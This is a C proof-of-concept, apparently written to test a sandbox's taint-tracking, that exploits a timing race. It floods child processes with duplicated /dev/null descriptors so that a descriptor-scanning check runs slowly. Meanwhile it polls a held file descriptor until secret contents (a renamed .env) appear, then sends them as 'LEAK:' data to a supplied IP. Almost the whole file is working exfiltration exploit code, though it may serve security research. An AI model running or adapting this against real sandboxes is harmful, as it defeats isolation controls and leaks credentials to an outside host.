// slowscan IP PATH NPROC: sends PRE; holds a descriptor on PATH (an ordinary file now);
// starts NPROC idle processes that each hold ~19,990 duplicates of /dev/null (under the
// scan's 2,000,000-entry bound), so the late-mark scan, which stats every descriptor of
// every sandbox process before it decides, takes seconds; then polls PATH's content and
// sends what appears (an outside tool renames PATH to .env and writes the secret).
#define _GNU_SOURCE
#include <fcntl.h>
#include <errno.h>
#include <signal.h>
#include <time.h>
#include <sys/resource.h>
#include <sys/wait.h>
#include "../../isolated-files-r4/send.c"
static double now(){ struct timespec t; clock_gettime(CLOCK_MONOTONIC,&t); return t.tv_sec+t.tv_nsec/1e9; }
int main(int argc,char**argv){ setvbuf(stdout,0,_IONBF,0); const char*ip=argv[1]; int np=atoi(argv[3]);
  printf("PRE send: %d\n", send_buf(ip,"PRE-TAINT-CHANNEL-OK",20));
  int fd=open(argv[2],O_RDONLY); if(fd<0){perror("open");return 1;}
  char first[64]={0}; pread(fd,first,63,0);
  struct rlimit r; getrlimit(RLIMIT_NOFILE,&r); long nfd=r.rlim_max-10; int pp[2]; pipe(pp);
  for(int i=0;i<np;i++) if(fork()==0){ close(fd); int n=open("/dev/null",O_RDONLY);
      long k; for(k=64;k<nfd;k++) if(dup2(n,k)<0){ fprintf(stderr,"dup2 %ld: %s\n",k,strerror(errno)); break;} if(i==0) fprintf(stderr,"filler 0: %ld fds\n",k); write(pp[1],"x",1); pause(); _exit(0);}
  for(int i=0;i<np;i++){ char c; read(pp[0],&c,1);} 
  printf("%d filler processes with %ld descriptors each\n",np,nfd);
  close(open("ready",O_CREAT|O_WRONLY,0644)); double t0=now(), seen=0;
  for(int i=0;i<60000;i++){ char buf[64]={0}; pread(fd,buf,63,0);
    if(!seen && strncmp(buf,first,5)) seen=now();
    if(buf[0] && strncmp(buf,first,5) && strstr(buf,"\n")){
      printf("DESCRIPTOR READS (%.3f s after ready): %.40s\n",seen-t0,buf);
      char m[128]; int l=snprintf(m,sizeof m,"LEAK:%s",buf); int s=send_buf(ip,m,l);
      printf("POST send: %d (%.3f s after the bytes appeared)\n",s,now()-seen); break; }
    usleep(500); }
  kill(0,SIGKILL); return 0; }
